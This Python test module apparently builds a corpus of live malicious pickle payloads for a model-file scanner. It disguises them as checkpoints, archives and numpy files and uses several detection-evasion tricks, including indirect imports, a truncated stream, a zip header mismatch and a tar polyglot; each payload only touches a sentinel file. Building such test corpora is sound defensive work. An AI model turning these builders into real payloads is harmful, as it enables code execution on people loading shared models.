"""Pickles that run code when loaded, assembled opcode by opcode, and the disguises they come in.

Each payload creates a sentinel file (its path is a parameter: tests pass one under tmp_path) when
loaded the way its `trigger` loads it, so a test can prove the payload is live while the safety check
never sets it off. `cases(sentinel)` builds the corpus around a given sentinel; `CASES` uses a fixed one.
"""

from __future__ import annotations

import gzip
import io
import pickle
import shlex
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from tests.corpus import Case

SENTINEL = "/tmp/ocr-corpus-payload-ran"  # noqa: S108 (never created: CASES are only scanned)

# Python run in a throwaway subprocess as `python -c TRIGGER path member`: how a victim loads the file.
LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
TORCH_LOAD = "import sys, torch; torch.load(sys.argv[1], weights_only=False)"
ZIP_MEMBER = "import pickle, sys, zipfile; pickle.loads(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]))"
TAR_MEMBER = "import pickle, sys, tarfile; pickle.loads(tarfile.open(sys.argv[1]).extractfile(sys.argv[2]).read())"
GZIP = "import gzip, pickle, sys; pickle.loads(gzip.decompress(open(sys.argv[1], 'rb').read()))"
NUMPY = "import numpy, sys; numpy.load(sys.argv[1], allow_pickle=True)"


def op_global(module: str, name: str) -> bytes:
    """GLOBAL: the import that picklescan judges."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): module and name pushed as strings first."""
    return b"".join(b"\x8c" + bytes([len(s.encode())]) + s.encode() for s in (module, name)) + b"\x93"


def op_str(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def op_call(fn: bytes, *args: bytes) -> bytes:
    """REDUCE: fn(*args), where `fn` and each arg are opcodes that push one object."""
    return fn + b"(" + b"".join(args) + b"tR"


def as_pickle(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def touch(sentinel: str) -> str:
    return f"touch {shlex.quote(sentinel)}"


def os_system(sentinel: str) -> bytes:
    return as_pickle(op_call(op_global("os", "system"), op_str(touch(sentinel))))


def os_system_stack_global(sentinel: str) -> bytes:
    return as_pickle(op_call(op_stack_global("os", "system"), op_str(touch(sentinel))), protocol=4)


def os_system_protocol0(sentinel: str) -> bytes:
    """ASCII only: it sniffs as text."""
    return b"cos\nsystem\n(V" + touch(sentinel).encode("raw_unicode_escape") + b"\ntR."


def builtins_eval(sentinel: str) -> bytes:
    return as_pickle(op_call(op_global("builtins", "eval"), op_str(f"open({sentinel!r}, 'w').close()")))


def builtins_exec(sentinel: str) -> bytes:
    return as_pickle(op_call(op_global("builtins", "exec"), op_str(f"open({sentinel!r}, 'w').close()")))


def subprocess_popen(sentinel: str) -> bytes:
    argv = b"](" + op_str("touch") + op_str(sentinel) + b"e"  # a list: EMPTY_LIST, MARK, items, APPENDS
    return as_pickle(op_call(op_global("subprocess", "Popen"), argv))


def pkgutil_resolve_name(sentinel: str) -> bytes:
    system = op_call(op_global("pkgutil", "resolve_name"), op_str("os:system"))
    return as_pickle(op_call(system, op_str(touch(sentinel))))


def operator_attrgetter(sentinel: str) -> bytes:
    """attrgetter('system')(__import__('os'))(cmd): no 'os.system' import anywhere in the stream."""
    getter = op_call(op_global("_operator", "attrgetter"), op_str("system"))
    system = op_call(getter, op_call(op_global("builtins", "__import__"), op_str("os")))
    return as_pickle(op_call(system, op_str(touch(sentinel))))


def io_open(sentinel: str) -> bytes:
    """io.open is on no denylist: picklescan calls it suspicious, and it still writes files."""
    return as_pickle(op_call(op_global("io", "open"), op_str(sentinel), op_str("w")))


def broken(sentinel: str) -> bytes:
    """nullifAI: the payload runs, then the stream breaks off before any STOP."""
    return b"\x80\x02" + op_call(op_global("os", "system"), op_str(touch(sentinel))) + b"\xff\xfe garbage"


def zip_of(members: dict[str, bytes], *, rename: dict[str, str] | None = None) -> bytes:
    """A stored zip; `rename` rewrites a member's name in its local header only (same length)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    out = bytearray(buffer.getvalue())
    for central, local in (rename or {}).items():
        info = zipfile.ZipFile(io.BytesIO(bytes(out))).getinfo(central)
        start = info.header_offset + 30
        assert len(local) == len(central)
        assert out[start : start + len(central)] == central.encode()
        out[start : start + len(central)] = local.encode()
    return bytes(out)


def torch_zip(data_pkl: bytes, *, rename: dict[str, str] | None = None, **members: bytes) -> bytes:
    """The layout torch.load reads: archive/data.pkl, version, byteorder (and tensor data/N)."""
    names = {"archive/data.pkl": data_pkl, "archive/byteorder": b"little", "archive/version": b"3\n"}
    return zip_of({**names, **{f"archive/{k.replace('__', '/')}": v for k, v in members.items()}}, rename=rename)


def mismatched_torch_zip(sentinel: str) -> bytes:
    """CVE-2025-1944: the local header calls data.pkl something else; torch goes by the central name."""
    return torch_zip(os_system(sentinel), rename={"archive/data.pkl": "archive/data.txt"})


def tar_of(members: dict[str, bytes], mode: str = "w:gz") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def tar_polyglot(sentinel: str) -> bytes:
    """A valid tar whose first member name is a protocol-0 pickle: pickle.load runs it from byte 0."""
    name = (b"cos\nsystem\n(V" + touch(sentinel).encode() + b"\ntR.").decode()
    assert len(name) < 100, "keep the sentinel path short: the name field holds 100 bytes"
    return tar_of({name: b"hello\n"}, mode="w")


def npy_object(sentinel: str) -> bytes:
    """An object-dtype .npy header, then a payload where numpy expects the pickled array."""
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return buffer.getvalue() + os_system(sentinel)


def npy_object_padded(sentinel: str) -> bytes:
    """The same with a 20 KB header: past numpy's default limit, which allow_pickle=True ignores."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + " " * 20_000 + "\n"
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header)) + header.encode() + os_system(sentinel)


def clean_pickle() -> bytes:
    return pickle.dumps({"step": 1}, protocol=2)


@dataclass(frozen=True)
class Payload:
    """A live payload: `build(sentinel)` gives the file; `trigger` loads it (argv: path, member)."""

    name: str
    path: str
    build: Callable[[str], bytes]
    trigger: str
    member: str = ""
    words: tuple[str, ...] = ()
    kind: str = "checkpoint"


PAYLOADS: list[Payload] = [
    Payload("os-system-as-safetensors", "model.safetensors", os_system, LOAD, words=("os.system",)),
    Payload("os-system-extensionless", "weights", os_system_stack_global, LOAD, words=("os.system",)),
    Payload("os-system-raw-bin", "pytorch_model.bin", os_system, TORCH_LOAD, words=("os.system",)),
    Payload("os-system-protocol-0-text", "notes.txt", os_system_protocol0, LOAD, words=("os.system",)),
    Payload("builtins-eval", "model.ckpt", builtins_eval, LOAD, words=("builtins.eval",)),
    Payload("builtins-exec", "model.pt", builtins_exec, LOAD, words=("builtins.exec",)),
    Payload("subprocess-popen", "model.pkl", subprocess_popen, LOAD, words=("subprocess.Popen",)),
    Payload("pkgutil-resolve-name", "model.pkl", pkgutil_resolve_name, LOAD, words=("pkgutil.resolve_name",)),
    Payload("operator-attrgetter", "model.pkl", operator_attrgetter, LOAD, words=("_operator.attrgetter",)),
    Payload("io-open-suspicious", "model.pkl", io_open, LOAD, words=("io.open", "suspicious")),
    Payload("broken-pickle", "pytorch_model.bin", broken, LOAD, words=("os.system",)),
    Payload("broken-pickle-break", "pytorch_model.bin", broken, LOAD, words=("does not parse to the end", "os.system")),
    Payload(
        "torch-zip-header-mismatch",
        "adapter_model.bin",
        mismatched_torch_zip,
        TORCH_LOAD,
        words=("archive/data.pkl", "os.system"),
        kind="adapter",
    ),
    Payload(
        "torch-zip-pickle-as-tensor-data",
        "pytorch_model.bin",
        lambda s: torch_zip(clean_pickle(), data__0=os_system(s)),
        ZIP_MEMBER,
        member="archive/data/0",
        words=("archive/data/0", "os.system"),
    ),
    Payload(
        "tar-gz-member-pickle",
        "images.tar.gz",
        lambda s: tar_of({"images/0001.jpg": os_system(s)}),
        TAR_MEMBER,
        member="images/0001.jpg",
        words=("images/0001.jpg", "os.system"),
        kind="dataset",
    ),
    Payload("gzip-pickle", "model.pkl.gz", lambda s: gzip.compress(os_system(s), mtime=0), GZIP, words=("os.system",)),
    Payload("npy-object", "embeddings.npy", npy_object, NUMPY, words=("object dtype",), kind="dataset"),
    Payload("npy-object-padded-header", "embeddings.npy", npy_object_padded, NUMPY, words=("object dtype",)),
    Payload("tar-pickle-polyglot", "pytorch_model.bin", tar_polyglot, LOAD, words=("os.system",)),
]


def cases(sentinel: Path | str = SENTINEL) -> list[Case]:
    """The corpus, with payloads that would create `sentinel` if they ever ran."""
    target = str(sentinel)
    return [
        Case(payload.name, payload.kind, {payload.path: payload.build(target)}, payload.path, payload.words)
        for payload in PAYLOADS
    ] + [
        Case(
            "torch-zip-local-header-names-another-member",
            "adapter",
            {"adapter_model.bin": mismatched_torch_zip(target)},
            "adapter_model.bin",
            ("local header", "archive/data.txt", "archive/data.pkl"),
        ),
        Case(
            "seven-zip-checkpoint",
            "checkpoint",
            {"pytorch_model.bin": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)},
            "pytorch_model.bin",
            ("7z",),
        ),
    ]


CASES = cases()
